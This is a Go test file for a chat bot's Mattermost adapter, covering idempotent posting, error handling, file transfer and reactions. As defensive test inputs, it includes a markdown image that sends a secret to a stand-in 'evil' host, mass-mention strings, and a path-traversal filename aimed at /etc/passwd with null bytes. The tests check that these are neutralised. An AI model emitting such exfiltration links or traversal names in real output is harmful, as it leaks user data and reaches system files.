package mattermost

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/nanobot-go/nanobot/internal/bus"
	"github.com/nanobot-go/nanobot/internal/chat"
	"github.com/nanobot-go/nanobot/internal/chat/platform/mattermost/mattermosttest"
)

// ready is a rig that knows who it is, without a connection.
func ready(t *testing.T) (*rig, bus.Route) {
	t.Helper()
	r := newRig(t, nil)
	if _, err := r.hello(t.Context()); err != nil {
		t.Fatal(err)
	}
	return r, bus.Route{Channel: "mattermost", ChatID: r.fake.Direct(mattermosttest.AnnID())}
}

func (r *rig) posted() []string {
	var out []string
	for _, p := range r.fake.Posts("") {
		out = append(out, p.Message)
	}
	return out
}

// A part is posted once: when the answer of the server is lost, when the server
// has forgotten the pending id, and after a restart.
func TestOnce(t *testing.T) {
	t.Parallel()
	r, to := ready(t)
	out := bus.Outbound{Kind: bus.Final, Route: to, Text: "hi", Key: "final:1/0"}
	r.fake.Fail(mattermosttest.Failure{Name: "POST /posts", After: true})
	if _, err := r.Send(t.Context(), out); err == nil || chat.IsPermanent(err) {
		t.Fatalf("a lost answer is %v, want an error that is tried again", err)
	}
	r.fake.ForgetPending()
	first, err := r.Send(t.Context(), out)
	if err != nil {
		t.Fatal(err)
	}
	r.fake.ForgetPending()
	r.reopen(nil)
	if _, err := r.hello(t.Context()); err != nil {
		t.Fatal(err)
	}
	second, err := r.Send(t.Context(), out)
	if err != nil || first != second {
		t.Errorf("after a restart the post is %q, %v, want %q", second, err, first)
	}
	out.Key = "final:1/1"
	if _, err := r.Send(t.Context(), out); err != nil {
		t.Error(err)
	}
	if d := cmp.Diff([]string{"hi", "hi"}, r.posted()); d != "" {
		t.Errorf("posts (-want +got):\n%s", d)
	}
	if calls := r.fake.Calls("POST /posts"); !strings.Contains(string(calls[0].Body), `"pending_post_id":"`+mattermosttest.BotID()+":") {
		t.Errorf("the request %s has no pending id", calls[0].Body)
	}
}

// What a model writes cannot call everybody or load foreign pictures; code and
// links stay as they are.
func TestHarmless(t *testing.T) {
	t.Parallel()
	r, to := ready(t)
	const said = "@all and @channel, @HERE! but @alice, @all-hands and a@all.com\n![x](http://evil/?q=secret) [y](http://z)\n`@all ![a](b)` @here\n```\n@all ![a](b)\n```\n> ~~~\n> @all\n> ~~~\n@all"
	const want = "＠all and ＠channel, ＠HERE! but @alice, @all-hands and a@all.com\n[x](http://evil/?q=secret) [y](http://z)\n`@all ![a](b)` ＠here\n```\n@all ![a](b)\n```\n> ~~~\n> @all\n> ~~~\n＠all"
	if _, err := r.Send(t.Context(), bus.Outbound{Kind: bus.Final, Route: to, Text: said}); err != nil {
		t.Fatal(err)
	}
	got := r.fake.Posts("")[0]
	if d := cmp.Diff(want, got.Message); d != "" {
		t.Errorf("the post (-want +got):\n%s", d)
	}
	if got.Props["unsafe_links"] != "true" {
		t.Errorf("props %v let the server fetch addresses", got.Props)
	}
	if err := r.Edit(t.Context(), bus.Outbound{Kind: bus.Message, Route: to, Text: "@all again"}, got.ID, true); err != nil {
		t.Fatal(err)
	}
	if got := r.posted()[0]; got != "＠all again" {
		t.Errorf("after the edit the post is %q", got)
	}
}

// A thread that is gone does not keep an answer from being posted.
func TestThreadGone(t *testing.T) {
	t.Parallel()
	r, to := ready(t)
	to.ThreadID = mattermosttest.ID("gone")
	if _, err := r.Send(t.Context(), bus.Outbound{Kind: bus.Final, Route: to, Text: "hi", Key: "k"}); err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff([]string{"hi"}, r.posted()); d != "" {
		t.Errorf("posts (-want +got):\n%s", d)
	}
}

// Refusals are what the manager must know: for good, later, or when connected.
func TestRefusals(t *testing.T) {
	t.Parallel()
	r, to := ready(t)
	out := bus.Outbound{Kind: bus.Final, Route: to, Text: "hi"}
	send := func(f mattermosttest.Failure) error {
		f.Name = "POST /posts"
		r.fake.Fail(f)
		_, err := r.Send(t.Context(), out)
		return err
	}
	if err := send(mattermosttest.Failure{Code: 403, ID: "api.context.permissions.app_error"}); !chat.IsPermanent(err) || !strings.Contains(err.Error(), "add @nb_bot") {
		t.Errorf("403: %v, want for good, with the fix", err)
	}
	limited := &chat.RateLimitedError{}
	if err := send(mattermosttest.Failure{Code: 429, RetryAfter: 7, Garbage: true}); !errors.As(err, &limited) || limited.After != 7*time.Second {
		t.Errorf("429: %v, want a pause of 7 s", err)
	}
	if err := send(mattermosttest.Failure{Code: 401, ID: "api.context.session_expired.app_error"}); !errors.Is(err, chat.ErrNotReady) {
		t.Errorf("401: %v, want not ready", err)
	}
	for _, f := range []mattermosttest.Failure{{Code: 500, ID: "api.post.deduplicate_create_post.pending"}, {Code: 404, Garbage: true}, {}} {
		if err := send(f); err == nil || chat.IsPermanent(err) {
			t.Errorf("%+v: %v, want an error that is tried again", f, err)
		}
	}
	out.Text = strings.Repeat("x", 16384)
	if _, err := r.Send(t.Context(), out); !chat.IsPermanent(err) {
		t.Errorf("too long: %v, want for good", err)
	}
	r.fake.Leave(town())
	out.Text, out.Route.ChatID, out.Key = "hi", town(), "k"
	if _, err := r.Send(t.Context(), out); !chat.IsPermanent(err) {
		t.Errorf("a foreign channel: %v, want for good", err)
	}
}

// Files go along with the text; one that cannot be sent is named instead.
func TestSendFiles(t *testing.T) {
	t.Parallel()
	r, to := ready(t)
	dir := t.TempDir()
	out := bus.Outbound{Kind: bus.Final, Route: to, Text: "here"}
	for _, name := range []string{"a.txt", "b.txt"} {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(name), 0o600); err != nil {
			t.Fatal(err)
		}
		out.Media = append(out.Media, bus.Media{Path: path, Name: name})
	}
	out.Media = append(out.Media, bus.Media{Path: filepath.Join(dir, "gone"), Name: "gone\n@all.txt"})
	r.fake.Fail(mattermosttest.Failure{Name: "POST /files", Code: 413, ID: "api.file.upload_file.too_large_detailed.app_error"})
	if _, err := r.Send(t.Context(), out); err != nil {
		t.Fatal(err)
	}
	p := r.fake.Posts("")[0]
	if d := cmp.Diff([]string{"b.txt"}, r.fake.Files(p)); d != "" {
		t.Errorf("files (-want +got):\n%s", d)
	}
	if !strings.HasPrefix(p.Message, "here\n[attachment: a.txt - upload failed]\n[attachment: gone") {
		t.Errorf("the text is %q", p.Message)
	}
	r.fake.Fail(mattermosttest.Failure{Name: "POST /files", Code: 500})
	if _, err := r.Send(t.Context(), out); err == nil || chat.IsPermanent(err) {
		t.Errorf("a server error: %v, want an error that is tried again", err)
	}
}

// Files of people are fetched with a name that is safe; what is too large or
// cannot be had is named.
func TestReceiveFiles(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	r.deps.Media.Max = 10
	r.deps.Transcribe = func(context.Context, string) string { return "hello" }
	r.reopen(nil)
	defer r.begin()()
	chatID, ann := r.fake.Direct(mattermosttest.AnnID()), mattermosttest.AnnID()
	ids := []string{
		r.fake.Store(ann, chatID, "../../etc/passwd\x00\n.txt", []byte("small")),
		r.fake.Store(ann, chatID, "big.bin", make([]byte, 11)),
		r.fake.Store(ann, chatID, "lost.txt", []byte("x")),
		r.fake.Store(ann, chatID, "a.mp3", []byte("ID3 sounds")),
	}
	r.fake.Fail(
		mattermosttest.Failure{Name: "GET /files/{file}/info", Code: 500}, // tried again
	)
	r.say(post0{FileIDs: ids[:2]})
	in := r.receive(1)[0]
	if len(in.Media) != 1 || filepath.Dir(in.Media[0].Path) != r.deps.Media.Dir || strings.ContainsAny(filepath.Base(in.Media[0].Path), "/\\\n\x00") {
		t.Fatalf("media %+v, want one file in the media folder", in.Media)
	}
	if got := words(in); !strings.Contains(got, "[attachment: big.bin - too large]") || !strings.Contains(got, "[file: ") {
		t.Errorf("the message is %q", got)
	}
	r.fake.Fail(mattermosttest.Failure{Name: "GET /files/{file}", Code: 404, ID: "app.file_info.get.app_error"})
	r.say(post0{Message: "lost", FileIDs: ids[2:3]})
	if got := words(r.receive(2)[1]); got != "lost\n> files: [attachment: lost.txt - download failed]" {
		t.Errorf("the message is %q", got)
	}
	r.say(post0{FileIDs: ids[3:]})
	if got := words(r.receive(3)[2]); !strings.HasPrefix(got, "\n> files: [transcription: hello]\n[audio: ") {
		t.Errorf("the message is %q, want the words apart from the text", got)
	}
}

func TestMarks(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	defer r.begin()()
	p := r.say(post0{Message: "hi"})
	to := r.receive(1)[0].Route
	signal := func(phase chat.Phase) []string {
		t.Helper()
		if err := r.Signal(t.Context(), to, phase); err != nil {
			t.Errorf("%s: %v", phase, err)
		}
		return r.fake.Reactions(p.ID)
	}
	got := [][]string{signal(chat.Seen), signal(chat.TurnStopped), signal(chat.Seen), signal(chat.Answered)}
	if d := cmp.Diff([][]string{{"eyes"}, nil, {"eyes"}, {"white_check_mark"}}, got); d != "" {
		t.Errorf("marks (-want +got):\n%s", d)
	}
	to.ThreadID = p.ID
	signal(chat.Working)
	r.Await("typing", func() bool { return len(r.fake.Typing()) == 1 })
	if got := r.fake.Typing()[0]; got != to.ChatID+" "+p.ID {
		t.Errorf("typing in %q", got)
	}
}

func TestErase(t *testing.T) {
	t.Parallel()
	r, to := ready(t)
	id, err := r.Send(t.Context(), bus.Outbound{Kind: bus.Delta, Route: to, Text: "hi"})
	if err != nil {
		t.Fatal(err)
	}
	r.fake.Fail(mattermosttest.Failure{Name: "DELETE /posts/{post}", Code: 403, ID: "api.context.permissions.app_error"})
	if err := r.Erase(t.Context(), to, id); !errors.Is(err, errors.ErrUnsupported) {
		t.Errorf("a post that must stay: %v", err)
	}
	for range 2 {
		if err := r.Erase(t.Context(), to, id); err != nil {
			t.Error(err)
		}
	}
	if len(r.posted()) != 0 {
		t.Errorf("posts %q", r.posted())
	}
	if err := r.Edit(t.Context(), bus.Outbound{Route: to, Text: "x"}, id, true); !chat.IsPermanent(err) {
		t.Errorf("an edit of what is gone: %v, want for good", err)
	}
}
